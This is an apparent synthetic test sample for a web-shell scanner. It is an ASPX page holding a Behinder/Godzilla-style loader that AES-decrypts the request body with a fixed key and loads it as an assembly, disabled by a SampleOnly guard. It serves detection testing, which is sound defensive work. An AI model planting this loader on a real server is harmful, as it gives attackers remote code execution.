<%-- synthetic test sample for breachscan: Behinder/Godzilla-style ASPX loader (request bytes
     decrypted and loaded as an assembly). Disabled by the SampleOnly guard. --%>
<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%
const bool SampleOnly = true;
if (!SampleOnly) {
  byte[] k = Encoding.Default.GetBytes("0123456789abcdef");
  byte[] c = Request.BinaryRead(Request.ContentLength);
  Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);
}
%>
